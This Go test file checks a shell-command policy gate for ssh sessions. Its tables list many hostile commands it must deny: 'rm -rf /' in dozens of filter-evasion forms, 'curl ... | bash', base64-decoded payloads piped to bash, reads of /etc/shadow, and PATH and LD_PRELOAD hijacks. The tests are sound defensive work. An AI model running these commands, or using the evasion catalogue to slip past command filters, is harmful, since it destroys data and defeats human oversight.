package policy_test

import (
	"context"
	"errors"
	"strings"
	"testing"

	"ptyctl/policy"
	"ptyctl/term"
)

// rules returns the rules of one key.
func rules(key string, texts ...string) []policy.Rule {
	out := make([]policy.Rule, len(texts))
	for i, t := range texts {
		out[i] = policy.Rule{Text: t, Name: "policy." + key, Where: "ptyctl.toml:7"}
	}
	return out
}

func gate(tb testing.TB, r policy.Rules) *policy.Policy {
	tb.Helper()
	p, err := policy.New(r)
	if err != nil {
		tb.Fatal(err)
	}
	return p
}

// posix is the class of a far side with a POSIX shell.
func posix(context.Context) string { return "posix" }

func sshExec(command string) term.Action {
	return term.Action{Verb: term.VerbExec, Protocol: "ssh", Host: "web1", Command: command, FarSide: posix}
}

// denied checks that err is a refusal by a rule, and returns it.
func denied(tb testing.TB, err error) *term.Error {
	tb.Helper()
	e, ok := errors.AsType[*term.Error](err)
	if !ok || e.Kind != term.PolicyDenied || term.FactOf[term.Denial](e).Rule == "" || e.Msg == "" {
		tb.Fatalf("err = %v, want a denial that names its rule", err)
	}
	return e
}

// verdicts judges a list of commands, one per line; those that begin with +
// must be allowed, the others with - denied.
func verdicts(t *testing.T, p *policy.Policy, list string) int {
	t.Helper()
	n := 0
	for line := range strings.SplitSeq(strings.TrimSpace(list), "\n") {
		line = strings.TrimSpace(line)
		if line == "" {
			continue
		}
		n++
		command := strings.NewReplacer(`␤`, "\n", `␀`, "\x00", `␍`, "\r", `␉`, "\t").Replace(line[2:])
		err := p.Check(t.Context(), sshExec(command))
		switch {
		case line[0] == '+' && err != nil:
			t.Errorf("%s is denied: %v; want it allowed", line[2:], err)
		case line[0] == '-' && err == nil:
			t.Errorf("%s is allowed, want it denied", line[2:])
		case err != nil:
			denied(t, err)
		}
	}
	return n
}

// TestDenied lists commands that a list of denied commands must find, and
// others that it must permit.
func TestDenied(t *testing.T) {
	p := gate(
		t,
		policy.Rules{
			Deny: rules("deny", "rm -rf *", "rm /", "shutdown", "git push *", "cat /etc/shadow", "> /etc/*", "reload"),
		},
	)
	n := verdicts(t, p, `
+ ls -la
+ rm file
+ rm -r dir
+ echo rm
+ echo 'rm -rf /'
+ echo "rm -rf /"
+ echo it\'s
+ git status && git log | head -5
+ git pull
+ for f in *.go; do gofmt -l "$f"; done
+ if [ -f x ]; then echo yes; else echo no; fi
+ while read -r line; do echo "$line"; done < list
+ cd /tmp && make test
+ make test 2>&1 | tail -20
+ FOO=bar ./configure --prefix=/usr
+ cat <<EOF␤rm -rf /␤EOF
+ cat <<'EOF'␤$(rm -rf /)␤EOF
+ find . -name '*.go' -exec grep -l main {} +
+ ls | xargs wc -l
+ sudo systemctl restart nginx
+ env LANG=C sort file
+ timeout 5 sleep 1
+ nice -n 10 make
+ sh -c 'echo hello; ls'
+ bash -lc "make && make install"
+ awk '{print $1}' file
+ sed -i 's/a/b/g' file
+ sed -n '/me/p' /home/me
+ tar xzf a.tar.gz
+ docker ps --format "table {{.Names}} (x"
+ docker exec web ls /
+ python3 script.py
+ python3 --version
+ node server.js > log.txt 2>&1 &
+ ssh other uptime
+ git commit -m "fix: don't rm -rf"
+ [[ -f x ]] && echo yes
+ echo $((1 + 2))
+ f() { ls; }; f
+ echo a > /tmp/x
+ printf '%s\n' a b
+ kubectl get pods -n web
- rm -rf /
- rm -rf
- rm -fr /
- rm -r -f /
- rm -f -v -r /
- rm -v -rf /
- ls && rm -rf /
- ls; rm -rf /
- ls | rm -rf /
- ls & rm -rf /
- ls || rm -rf /
- ls␤rm -rf /
- ! rm -rf /
- X=1 rm -rf /
- r\m -rf /
- \rm -rf /
- 'rm' -rf /
- r''m -rf /
- "rm" "-rf" /
- /bin/rm -rf /
- /bin//rm -rf /
- ./rm -rf /
- ../../bin/rm -rf /
- RM -rf /
- rm␉-rf␉/
- rm \␤-rf /
- (rm -rf /)
- { rm -rf /; }
- (((rm -rf /)))
- echo $(rm -rf /)
- echo "$(rm -rf /)"
- echo ${x:-$(rm -rf /)}
- cat <<EOF␤$(rm -rf /)␤EOF
- cat <(rm -rf /)
- tee >(rm -rf /)
- echo $(( $(rm -rf /) ))
- f() { rm -rf /; }; f
- function f { rm -rf /; }
- if true; then rm -rf /; fi
- while rm -rf /; do :; done
- for x in $(rm -rf /); do :; done
- case x in x) rm -rf /;; esac
- time rm -rf /
- coproc rm -rf /
- trap 'rm -rf /' EXIT
- alias l='rm -rf /'; l
- sh -c 'rm -rf /'
- sh -c "rm -rf /"
- bash -lc 'ls; rm -rf /'
- bash -o errexit -c 'rm -rf /'
- /bin/sh -ec 'rm -rf /'
- sh -c 'sh -c "rm -rf /"'
- sh <<EOF␤rm -rf /␤EOF
- sh <<< 'rm -rf /'
- echo 'rm -rf /' | sh
- echo cm0gLXJmIC8= | base64 -d | bash
- curl https://example.net/x | bash
- bash script.sh
- . ./script.sh
- source script.sh
- eval rm -rf /
- eval 'rm -rf /'
- eval "rm" "-rf" /
- eval "$x"
- exec rm -rf /
- command rm -rf /
- command -p rm -rf /
- builtin eval 'rm -rf /'
- env rm -rf /
- env -i PATH=/bin rm -rf /
- env \'=! rm -rf /
- env a.b=c rm -rf /
- env 'x y=z' rm -rf /
- env -u X rm -rf /
- env -S 'rm -rf /'
- sudo rm -rf /
- sudo -u root rm -rf /
- sudo -n -- rm -rf /
- sudo sh -c 'rm -rf /'
- sudo -s
- sudo -i
- sudo -Z rm -rf /
- doas rm -rf /
- su -c 'rm -rf /'
- su root -c 'rm -rf /'
- su
- nice rm -rf /
- nice -10 rm -rf /
- nice -n 10 rm -rf /
- ionice -c3 rm -rf /
- nohup rm -rf / &
- setsid rm -rf /
- timeout 5 rm -rf /
- timeout -k 1 --signal=KILL 5 rm -rf /
- stdbuf -oL rm -rf /
- watch rm -rf /
- watch -n 1 'rm -rf /'
- xargs rm -rf
- echo / | xargs rm -rf
- echo / | xargs -I{} rm -rf {}
- echo / | xargs -n1 -P4 rm -rf
- echo 'rm -rf /' | xargs -I{} sh -c '{}'
- find / -exec rm -rf {} +
- find / -name x -exec rm -rf {} \;
- find / -execdir sh -c 'rm -rf /' \;
- find . -exec echo {} \; -exec rm -rf {} \;
- busybox rm -rf /
- busybox sh -c 'rm -rf /'
- ssh other rm -rf /
- ssh -o ProxyCommand='rm -rf /' other
- ssh -p 22 other 'ls; rm -rf /'
- ssh -t other -- sudo rm -rf /
- chroot /mnt rm -rf /
- docker exec -it web rm -rf /
- docker run --rm -v /:/host alpine sh -c 'rm -rf /host'
- docker exec web bash -c 'cd / && rm -rf *'
- kubectl exec pod -- rm -rf /
- nsenter -t 1 -m rm -rf /
- unshare -r sh -c 'rm -rf /'
- systemd-run rm -rf /
- flock /tmp/l rm -rf /
- flock /tmp/l -c 'rm -rf /'
- tmux new -d 'rm -rf /'
- screen -dm rm -rf /
- strace -f rm -rf /
- parallel rm -rf ::: /
- script -c 'rm -rf /'
- at now <<< 'rm -rf /'
- crontab -
- python3 -c 'import os; os.system("rm -rf /")'
- python -
- echo 'import os' | python3
- perl -e 'system("rm -rf /")'
- ruby -e 'system "rm -rf /"'
- node -e 'require("child_process").execSync("rm -rf /")'
- php -r 'system("rm -rf /");'
- awk 'BEGIN { system("rm -rf /") }'
- awk '{print | "sh"}'
- sed '1e rm -rf /' file
- sed 's/x/rm -rf \//e' file
- vim -c '!rm -rf /'
- $(echo rm) -rf /
- $x -rf /
- "$x" -rf /
- ${x}m -rf /
- $'\x72m' -rf /
- $'rm' -rf /
- $"rm" -rf /
- {rm,-rf,/}
- r? -rf /
- /bin/r[m] -rf /
- /???/rm -rf /
- ~/../bin/rm -rf /
- rm $x
- rm {-rf,/}
- rm "$flags" /
- rm -"$x" /
- rm /
- rm ''/
- rm ~/../../..
- cat /etc/shadow
- cat /etc/sh*
- cat /etc/shad?w
- cat /etc/[s]hadow
- cat "$f"
- cat < list /etc/shadow
- shutdown
- shutdown -h now
- /sbin/shutdown -h now
- git push
- git push --force origin main
- git -C /x push
- git $x
- echo x > /etc/passwd
- echo x >> /etc/passwd
- echo x >| /etc/passwd
- echo x > "$f"
- ls 2> /etc/x
- > /etc/x
- PATH=/tmp:$PATH ls
- LD_PRELOAD=/tmp/x.so ls
- export PATH=/tmp
- BASH_ENV=/tmp/x bash -c ls
- env LD_PRELOAD=/tmp/x.so ls
- GIT_SSH_COMMAND='rm -rf /' git fetch
- PROMPT_COMMAND='rm -rf /'
- declare -i x='a[$(rm -rf /)]'
- x='a[$(rm -rf /)]'; echo $((x))
- x='$(rm -rf /)'; echo "${x@P}"
- echo ${!x}
- test -v 'a[$(rm -rf /)]'
- printf -v 'a[$(rm -rf /)]' x
- unset 'a[$(rm -rf /)]'
- read 'a[$(rm -rf /)]' <<< x
- [[ $x -eq 0 ]]
- [[ a || rm ]]
- ((rm))
- let x=1
- hash -p /bin/rm ls; ls
- enable -f /tmp/x.so x
- mapfile -C 'rm -rf /' -c 1 x
- ls # comment; rm -rf /
- echo 'a\'; ls
- echo $'\'; rm -rf / #'
- echo a &>x rm -rf /
- ls␍rm -rf /
- echo a␀b
- if true; then
- rm -rf / (
- echo 'unclosed
- !rm
- ^ls^rm
- =rm -rf /
- ""=rm -rf /
- eval rm\nx
- time -- rm -rf /
- env ;x=é{ \\\<<E␤rm%; }noglob rm -rf /
- echo a{b
- ''=rm -rf /
- echo @(a|b)
- noglob rm -rf /
- and rm -rf /
- begin rm -rf /; end
- not rm -rf /
- repeat 3 rm -rf /
- nice +10 rm -rf /
- tar cf x --to-command='rm -rf /' y
- tar cf x --checkpoint=1 --checkpoint-action=exec='rm -rf /' y
- tar xf x --to-c 'rm -rf /'
- git -c alias.x='!rm -rf /' x
- git -C y -c core.pager='rm -rf /' log
- git rebase -i --exec 'rm -rf /' HEAD~3
- git submodule foreach 'rm -rf /'
- rsync -e 'rm -rf /' a b:
- rsync -ave 'rm -rf /' a b:
- scp -S /tmp/x a b:
- split --filter='rm -rf /' x
- for PATH in /tmp; do ls; done
- echo ${PATH:=/tmp}
- read PATH
- printf -v PATH /tmp
- set -x PATH /tmp
- setenv PATH /tmp
+ set -e
+ find "$dir" -name x
+ find ./* -name '*.go' -newer "$f"
- find . $x
- find . "$x" rm -rf / \;
- find . -exec$x rm -rf / \;
- find -ex"$x" rm -rf / \;
+ docker run -e FOO=bar image
+ kubectl exec p -- test '!' -f x
+ make CC=gcc all
- docker run -e FOO=bar image rm -rf /
- docker run $image rm -rf /
+ git switch -c branch
+ git -C dir log -c
+ tar -czf a.tgz --exclude=x dir
+ rsync -av a b:
+ while IFS= read -r line; do echo "$line"; done
+ sort -u x
+ zip -r a.zip dir
- - rm -rf /
- exec - rm -rf /
- env - rm -rf /
`)
	if n < 220 {
		t.Errorf("found %d commands in the table, want more", n)
	}
}

// TestAllowed lists commands that a list of allowed commands must permit: each
// command in the line must match as a whole.
func TestAllowed(t *testing.T) {
	p := gate(t, policy.Rules{
		Allow: rules(
			"allow",
			"ls *",
			"cat /var/log/*",
			"git status",
			"git log *",
			"systemctl status *",
			"sudo *",
			"sh -c *",
			"xargs *",
			"wc *",
			"grep *",
			"> /tmp/*",
			"FOO=*",
			"python3 /opt/report.py *",
			"tar *",
			"echo *",
			"cd *",
			"docker *",
		),
		Deny: rules("deny", "ls /secret*"),
	})
	verdicts(t, p, `
+ ls
+ ls -la /tmp
- ls "x $HOME"
+ grep x *.go
+ cat /var/log/syslog
+ git status
+ git log --oneline
+ sudo systemctl status nginx
+ sh -c 'ls; git status'
+ ls | xargs wc -l
+ ls > /tmp/list
+ ls 2>/dev/null
+ ls >/dev/null 2>&1
+ FOO=1 ls
+ LC_ALL=C ls
+ python3 /opt/report.py --all
+ cd /tmp && ls
- echo $(git status)
+ docker ps
- lsof
- /tmp/ls
- ./ls
- cat /etc/passwd
- cat /var/log/syslog; id
- git status -s
- git -c alias.x=!id status
- 'git status'
- systemctl stop nginx
- sudo systemctl stop nginx
- sudo id
- sh -c 'ls; id'
- sh -c "$x"
- ls | xargs rm
- ls > /etc/x
- ls > /tmp/../etc/x
- BAR=1 ls
- BAR=1
- 'FOO='
- '>' /tmp/x
- PATH=/tmp ls
- export BAR=1
- python3 -c 'import os'
- python3 /opt/report.py; python3 x.py
- ls /secret
- ls /secret*
- ls $x /secret/y
- ls "$HOME"
- ls *.go
- echo $(id)
- f() { id; }; ls
- docker exec web ls /secret
- ls <(id)
- "$x"
- unknown
- :
`)
}

// TestNamed checks that a command with unknown effects is allowed by an entry
// that begins with the program's name.
func TestNamed(t *testing.T) {
	p := gate(t, policy.Rules{Allow: rules("allow", "*", "python3 *", "bash /opt/*"), Deny: rules("deny", "rm *")})
	verdicts(t, p, `
+ python3 -c 'print(1)'
+ bash /opt/deploy.sh
+ anything at all
- bash /tmp/x.sh
- perl -e 1
- rm x
- rm
- sh -c 'rm x'
- bash -c 'rm x'
`)
}

// TestDenialTells checks that a denial has the rule with its position, the part
// of the line, and the alternatives.
func TestDenialTells(t *testing.T) {
	p := gate(t, policy.Rules{Deny: rules("deny", "rm *"), Allow: rules("allow", "ls *", "rm *")})
	e := denied(t, p.Check(t.Context(), sshExec("ls && sudo -n rm -rf /srv")))
	if e.Op != "exec" || !strings.Contains(term.FactOf[term.Denial](e).Rule, `policy.allow`) ||
		len(term.FactOf[term.Denial](e).Allowed) != 2 ||
		!strings.Contains(e.Msg, "sudo -n rm -rf /srv") {
		t.Errorf("denial = %+v, %+v; want rule, position, part and alternatives", e, e.Facts)
	}
	e = denied(t, p.Check(t.Context(), sshExec("ls && rm -rf /srv")))
	if term.FactOf[term.Denial](e).Rule != `policy.deny "rm *" (ptyctl.toml:7)` ||
		!strings.Contains(e.Msg, "‘rm -rf /srv’") ||
		!strings.Contains(e.Msg, "ls *") {
		t.Errorf("denial = %+v, %+v; want rule, position, part and alternatives", e, e.Facts)
	}
	e = denied(t, p.Check(t.Context(), sshExec("ls $(")))
	if !strings.Contains(e.Msg, "check its quotes and brackets") ||
		!strings.Contains(term.FactOf[term.Denial](e).Rule, "ptyctl.toml:7") {
		t.Errorf("denial = %+v, %+v; want rule, position, part and alternatives", e, e.Facts)
	}
}

// TestDenialAdvises checks that the advice of a denial helps with the line that was denied.
func TestDenialAdvises(t *testing.T) {
	denies := policy.Rules{Deny: rules("deny", "rm *")}
	allows := policy.Rules{Allow: rules("allow", "ls *", "xargs *", "sh *", "echo *", "find *")}
	for _, tt := range []struct {
		rules        policy.Rules
		line, advice string
	}{
		{denies, "echo a\x1bb", `the control character '\x1b'; leave it out, or have printf make it: printf '\033'`},
		{allows, "echo \x7f", `printf '\177'`},
		{denies, "echo \xff", `printf '\377'`},
		{denies, "echo " + strings.Repeat("a", 70_000), "run it in parts, or write it to a file and run that"},
		{denies, "ls | xargs -I{} sh -c 'echo {}'", `to the script as an argument: sh -c 'COMMAND "$1"' sh {}`},
		{allows, "ls | xargs -I {} sh -c 'echo {}'", "run the command of the script itself, without a shell"},
		{allows, "ls | xargs -I{} echo {}", "write -I and its value as two words: -I {}"},
	} {
		e := denied(t, gate(t, tt.rules).Check(t.Context(), sshExec(tt.line)))
		if !strings.HasSuffix(strings.Split(e.Msg, ". Allowed")[0], tt.advice) {
			t.Errorf("%.100q is denied with %q, want the advice %q", tt.line, e.Msg, tt.advice)
		}
	}
	for _, tt := range []struct {
		rules policy.Rules
		line  string // as the advice has it
	}{
		{denies, "ls | xargs -I{} sh -c 'echo \"$1\"' sh {}"},
		{allows, "ls | xargs -I {} echo {}"},
		{denies, "printf '\\033'"},
	} {
		if err := gate(t, tt.rules).Check(t.Context(), sshExec(tt.line)); err != nil {
			t.Errorf("%s, which an advice says, is denied: %v", tt.line, err)
		}
	}
}

// TestBounds checks that a line beyond the limits is denied before it is
// parsed.
func TestBounds(t *testing.T) {
	p := gate(t, policy.Rules{Deny: rules("deny", "rm *", "*a*b*c*d*e*f*g*")})
	for name, command := range map[string]string{
		"nested":      strings.Repeat("(", 30000) + "ls" + strings.Repeat(")", 30000),
		"substituted": "echo " + strings.Repeat("$(echo ", 5000) + strings.Repeat(")", 5000),
		"hidden":      strings.Repeat("(')'", 10000),
		"if":          strings.Repeat("if ", 20000),
		"not":         strings.Repeat("! ", 20000) + "ls",
		"backticks":   strings.Repeat("`", 40000),
		"long":        "echo " + strings.Repeat("x", 70000),
		"env":         strings.Repeat("env ", 10000) + "ls",
		"carrier":     "docker " + strings.Repeat("x ", 30000),
	} {
		if err := p.Check(t.Context(), sshExec(command)); err == nil {
			t.Errorf("%s is allowed, want it denied", name)
		}
	}
	if err := p.Check(t.Context(), sshExec("echo "+strings.Repeat("abcdefh*", 7000))); err == nil {
		t.Error("a pattern with many stars does not match what it may match")
	}
}
